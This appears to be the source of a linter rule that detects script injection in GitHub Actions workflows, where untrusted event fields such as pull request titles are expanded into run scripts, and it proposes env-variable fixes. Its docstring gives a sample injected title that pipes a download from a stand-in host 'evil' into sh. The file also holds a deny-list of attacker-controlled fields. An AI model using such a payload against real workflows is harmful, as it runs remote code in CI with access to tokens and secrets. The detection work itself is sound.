"""Untrusted event data expanded straight into a script.

GitHub substitutes ``${{ }}`` expressions into the text of a ``run:`` script (or the
``script:`` of actions/github-script) before the shell or Node sees it, so a pull request
title such as ``"; curl evil | sh; echo "`` becomes code. The rule works from a deny-list of
values an outside contributor controls (titles, bodies, branch names, commit messages and
author fields); values such as ``github.actor``, ``github.sha`` or a PR number cannot carry
shell syntax and are not reported.
"""
from __future__ import annotations

import re

from ...core.located import LMap, LSeq
from ...core.model import Step
from ...core.registry import check
from ...lib.gha.shell import quote_at
from ...lib.gha.taint import uses_of
from ...lib.gha.expression import Call, Bin, Index, Lit, Not, Prop, Var, expressions_in, parse
from ...core.fix import UNSAFE, Edit, Fix, insert_key, line_bounds, line_ending, scalar_edit

# attacker-controlled values; '*' matches one array index
UNTRUSTED = (
    "github.head_ref",
    "github.event.issue.title",
    "github.event.issue.body",
    "github.event.pull_request.title",
    "github.event.pull_request.body",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.label",
    "github.event.pull_request.head.repo.default_branch",
    "github.event.pull_request.head.repo.description",
    "github.event.pull_request.head.repo.homepage",
    "github.event.comment.body",
    "github.event.review.body",
    "github.event.review_comment.body",
    "github.event.discussion.title",
    "github.event.discussion.body",
    "github.event.pages.*.page_name",
    "github.event.commits.*.message",
    "github.event.commits.*.author.email",
    "github.event.commits.*.author.name",
    "github.event.commits.*.committer.email",
    "github.event.commits.*.committer.name",
    "github.event.head_commit.message",
    "github.event.head_commit.author.email",
    "github.event.head_commit.author.name",
    "github.event.head_commit.committer.email",
    "github.event.head_commit.committer.name",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.display_title",
    "github.event.workflow_run.head_commit.message",
    "github.event.workflow_run.head_commit.author.email",
    "github.event.workflow_run.head_commit.author.name",
    "github.event.workflow_run.head_commit.committer.email",
    "github.event.workflow_run.head_commit.committer.name",
    "github.event.workflow_run.head_repository.description",
    "github.event.workflow_run.pull_requests.*.head.ref",
    "github.event.merge_group.head_commit.message",
    "github.event.merge_group.head_commit.author.email",
    "github.event.merge_group.head_commit.author.name",
)
_UNTRUSTED = [tuple(p.split(".")) for p in UNTRUSTED]

SCRIPT_ACTIONS = ("actions/github-script",)


def _match(path: tuple[str, ...], pattern: tuple[str, ...]) -> bool:
    return len(path) == len(pattern) and all(p == q or q == "*" for p, q in zip(path, pattern))


def _covers(path: tuple[str, ...]) -> str | None:
    """The untrusted value that ``path`` names or (as a whole object) contains."""
    for pat in _UNTRUSTED:
        if _match(path, pat):
            return ".".join(path)
    return None


def _object_with_untrusted(path: tuple[str, ...]) -> str | None:
    """``github.event`` or ``github.event.pull_request`` serialised whole (``toJSON``)."""
    if len(path) < 2 or path[:2] != ("github", "event"):
        return None
    for pat in _UNTRUSTED:
        if len(pat) > len(path) and all(p == q or q == "*" for p, q in zip(path, pat)):
            return ".".join(path)
    return None


_SAFE_CALLS = ("contains", "startswith", "endswith")  # they return a boolean
_COMPARE = ("==", "!=", "<", "<=", ">", ">=")


def _chain_path(n) -> tuple[tuple[str, ...], int] | None:
    """The static path of a property chain (``github.event.commits[0].message`` ->
    ('github', 'event', 'commits', '*', 'message')) and the offset of its context name."""
    names: list[str] = []
    cur = n
    while isinstance(cur, (Prop, Index)):
        if isinstance(cur, Prop):
            names.append("*" if cur.name.isdigit() else cur.name.lower())
        elif isinstance(cur.index, Lit) and isinstance(cur.index.value, str) and cur.index.value != "*":
            names.append(cur.index.value.lower())
        else:
            names.append("*")
        cur = cur.obj
    if not isinstance(cur, Var):
        return None
    names.append(cur.name.lower())
    return tuple(reversed(names)), cur.start


def untrusted_in(node, env: dict[str, str] | None = None) -> list[tuple[str, int]]:
    """(untrusted value, offset of its context name) for each deny-listed value whose text
    an expression can print. Values that only decide a boolean cannot carry code:
    arguments of contains/startsWith/endsWith, operands of comparisons and of ``!``, and
    the left side of ``&&`` (it is printed only when empty). ``env`` maps variables set
    from an untrusted value to it: ``${{ env.TITLE }}`` pastes that value just the same
    (reported as ``env.TITLE``)."""
    out: list[tuple[str, int]] = []

    def visit(n, safe: bool, whole: bool) -> None:
        if isinstance(n, (Prop, Index, Var)):
            got = _chain_path(n)
            if got is not None and not safe:
                path, at = got
                hit = _covers(path) or (_object_with_untrusted(path) if whole else None)
                if hit is None and env and len(path) == 2 and path[0] == "env" and path[1] in env:
                    hit = f"env.{env[path[1]][0]}"
                if hit and all(h != hit or a != at for h, a in out):
                    out.append((hit, at))
            # computed indexes only pick which value is read
            cur = n
            while isinstance(cur, (Prop, Index)):
                if isinstance(cur, Index):
                    visit(cur.index, True, False)
                cur = cur.obj
            if not isinstance(cur, Var):
                visit(cur, safe, whole)
            return
        if isinstance(n, Call):
            name = n.name.lower()
            for a in n.args:
                visit(a, safe or name in _SAFE_CALLS, name == "tojson")
            return
        if isinstance(n, Not):
            visit(n.operand, True, False)
            return
        if isinstance(n, Bin):
            if n.op in _COMPARE:
                visit(n.left, True, False)
                visit(n.right, True, False)
            elif n.op == "&&":
                visit(n.left, True, False)
                visit(n.right, safe, whole)
            else:
                visit(n.left, safe, whole)
                visit(n.right, safe, whole)

    if node is not None:
        visit(node, False, False)
    return out


def untrusted_refs(inner: str) -> list[str]:
    """Untrusted values an expression reads (deny-list), in order."""
    node, err = parse(inner)
    if node is None:
        return []
    out: list[str] = []
    for value, _ in sorted(untrusted_in(node), key=lambda v: v[1]):
        if value not in out:
            out.append(value)
    return out


def _env_name(value: str) -> str:
    parts = value.split(".")
    if parts[:2] == ["github", "event"]:
        parts = parts[2:]
    name = "_".join(p for p in parts if p != "*").upper()
    return re.sub(r"[^A-Z0-9_]", "_", name) or "VALUE"


@check("script-injection", on="step")
def script_injection(ctx, step: Step) -> None:
    node = step.node
    targets = []
    run = node.get("run")
    if isinstance(run, str):
        targets.append((node, "run", run, "shell script"))
    if uses_of(node) in SCRIPT_ACTIONS and isinstance(node.get("with"), LMap):
        script = node["with"].get("script")
        if isinstance(script, str):
            targets.append((node["with"], "script", script, "JavaScript of actions/github-script"))
    env = _tainted_env(step)
    fixed = _fixed_by_trigger(step.root) if step.job is not None else set()
    for holder, key, text, what in targets:
        span = holder.value_span(key)
        for parsed in expressions_in(text):
            for value, at in sorted(untrusted_in(parsed.node, env), key=lambda v: v[1]):
                if value in fixed:
                    continue
                width = len(value.split(".")[0])
                var = ""
                if value.startswith("env."):
                    name, source = env[value[4:].lower()]
                    ref = f'"${name}"' if key == "run" else f"process.env.{name}"
                    message = (
                        f"`env.{name}` holds `{source}`, which is set by whoever opens the pull request, issue "
                        f"or commit, and `${{{{ env.{name} }}}}` pastes it into the {what} before it runs, so a "
                        "crafted value runs as code in the job, with its token and any secrets it can read. "
                        f"Fix: read the variable at run time, {ref}, instead of through `${{{{ }}}}`"
                    )
                    value = source
                else:
                    var = _env_name(value)
                    ref = f'"${var}"' if key == "run" else f"process.env.{var}"
                    if value == "github.head_ref" and key == "run":
                        var, ref = "HEAD_REF", '"$HEAD_REF" (or the runner\'s own "$GITHUB_HEAD_REF")'
                    message = (
                        f"`{value}` is set by whoever opens the pull request, issue or commit, and "
                        f"`${{{{ }}}}` pastes it into the {what} before it runs, so a crafted value "
                        f"runs as code in the job, with its token and any secrets it can read. Fix: pass it through "
                        f"`env:` (`{var}: ${{{{ {value} }}}}`) and read {ref} instead"
                    )
                fix = None
                if var and parsed.template is not None:
                    fix = _env_fix(ctx, step, span, text, parsed.template, value, var, key)
                ctx.report(
                    ctx.sub_span(span, text, at, at + width),
                    message,
                    context=f"{step.ident}:{key}:{value}",
                    fix=fix,
                )


_GLOB = re.compile(r"[*?\[\]!+]")


def _fixed_by_trigger(root) -> set[str]:
    """Untrusted values that the workflow's triggers pin to names its author wrote: with
    ``on: workflow_run: branches: [main, release]`` (no glob), GitHub starts the workflow only
    when the triggering run's ``head_branch`` is one of them, so the value is one of those
    literal names (``workflow_dispatch`` and other triggers leave it empty)."""
    on = root.get("on") if isinstance(root, LMap) else None
    wr = on.get("workflow_run") if isinstance(on, LMap) else None
    branches = wr.get("branches") if isinstance(wr, LMap) else None
    if isinstance(branches, str):
        branches = [branches]
    if not isinstance(branches, (list, LSeq)) or not branches:
        return set()
    if all(isinstance(b, str) and b and not _GLOB.search(b) and re.fullmatch(r"[\w./-]+", b) for b in branches):
        return {"github.event.workflow_run.head_branch"}
    return set()


def _js_replacement(script: str, t, var: str) -> tuple[int, int, str] | None:
    """For actions/github-script: `"${{ v }}"` (any quotes) -> `process.env.VAR`, and
    `${{ v }}` inside a template literal -> `${process.env.VAR}`; other places (bare code,
    part of a quoted string) are left to the author."""
    before = script[t.start - 1 : t.start] if t.start else ""
    after = script[t.end : t.end + 1]
    if before and before == after and before in "'\"`":
        return t.start - 1, t.end + 1, f"process.env.{var}"
    line_start = script.rfind("\n", 0, t.start) + 1
    if script.count("`", line_start, t.start) % 2 == 1:
        return t.start, t.end, "${process.env." + var + "}"
    return None


def _env_fix(ctx, step: Step, span, script: str, t, value: str, var: str, key: str = "run"):
    """Unsafe (the script then sees the value as data): `${{ value }}` -> "${VAR}" in a
    `run:` script (`process.env.VAR` in actions/github-script), and `VAR: ${{ value }}` in
    the step's `env:`."""
    src = ctx.file.src if ctx.file is not None else None
    if src is None or script[t.inner_start : t.inner_end].strip() != value:
        return None
    if re.search(r"\$\{?" + re.escape(var) + r"\b|process\.env\." + re.escape(var) + r"\b", script):
        return None  # the script already uses a variable of that name
    for holder in (step.root, step.job.node if step.job is not None else None):
        env = holder.get("env") if isinstance(holder, LMap) else None
        if isinstance(env, LMap) and var in env:
            return None
    if key == "run":
        quote = quote_at(script, t.start)
        if quote == "'":
            return None
        a, b, repl = t.start, t.end, "${" + var + "}" if quote == '"' else '"${' + var + '}"'
    else:
        js = _js_replacement(script, t, var)
        if js is None:
            return None
        a, b, repl = js
    edit = scalar_edit(src, span, script, a, b, repl)
    if edit is None:
        return None
    entry = f"{var}: ${{{{ {value} }}}}"
    node = step.node
    env = node.get("env")
    if isinstance(env, LMap):
        if env.get(var) == f"${{{{ {value} }}}}":
            return Fix(UNSAFE, (edit,), f"Read the value from the environment variable {var}")
        if var in env or not env:
            return None
        add = insert_key(src, env.span, env.key_span(next(iter(env))), entry)
    elif "env" in node:
        return None
    else:
        text = src.text
        ks = node.key_span("run" if key == "run" else "with")
        ls, _, _ = line_bounds(text, ks.start)
        if text[ls : ks.start].strip() and key != "run":
            return None
        if text[ls : ks.start].strip():
            # `- run: ...` shares its line with the dash: env goes on the line after the script
            end = span.end
            while end > span.start and text[end - 1] in " \t\r\n":
                end -= 1
            _, _, ls = line_bounds(text, max(span.start, end - 1))
            if ls >= len(text) and not text.endswith(("\n", "\r")):
                return None
            indent = " " * (ks.col - 1)
        else:
            indent = text[ls : ks.start]
        eol = line_ending(text)

        add = Edit(ls, ls, f"{indent}env:{eol}{indent}  {entry}{eol}")
    if add is None:
        return None
    return Fix(UNSAFE, (add, edit), f"Pass {value} through the environment variable {var}")


def _tainted_env(step: Step) -> dict[str, tuple[str, str]]:
    """Lower-cased env names (workflow, job, then step level) set from an untrusted value:
    name -> (name as written, the untrusted value)."""
    out: dict[str, tuple[str, str]] = {}
    holders = [step.root, step.job.node if step.job is not None else None, step.node]
    for h in holders:
        env = h.get("env") if isinstance(h, LMap) else None
        if not isinstance(env, LMap):
            continue
        for k, v in env.items():
            hits = []
            if isinstance(v, str) and "${{" in v:
                for parsed in expressions_in(v):
                    hits += untrusted_in(parsed.node)
            if hits:
                out[str(k).lower()] = (str(k), hits[0][0])
            else:
                out.pop(str(k).lower(), None)
    return out
